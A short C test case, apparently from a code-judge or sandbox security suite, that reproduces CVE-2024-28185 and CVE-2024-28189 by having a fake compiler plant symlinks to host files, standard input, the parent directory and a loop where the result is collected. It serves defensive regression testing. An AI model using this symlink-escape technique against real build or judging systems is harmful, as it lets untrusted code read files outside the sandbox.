/*
 * Attack: a compiler that leaves a link to a file of the host in place of the result (CVE-2024-28185, CVE-2024-28189).
 * Incident: CVE-2024-28185 CVE-2024-28189
 * Phase: compile
 * Expect: exited 0
 * Arguments: {file} {folder}
 * Collected: plain
 */
#include "attack.h"
int main(int count, char **arguments)
{
	if (count != 3) return 1;
	symlink(arguments[1], "/work/program");
	symlink(arguments[2], "/work/folder");
	symlink("/proc/self/fd/0", "/work/input");
	symlink("..", "/work/up");
	symlink("program", "/work/second");
	symlink("loop", "/work/loop");
	mkdir("/work/below", 0755);
	symlink(arguments[1], "/work/below/program");
	rename("/work/below/program", "/work/third");
	rmdir("/work/below");
	close(open("/work/plain", O_CREAT | O_WRONLY, 0644));
	return 0;
}
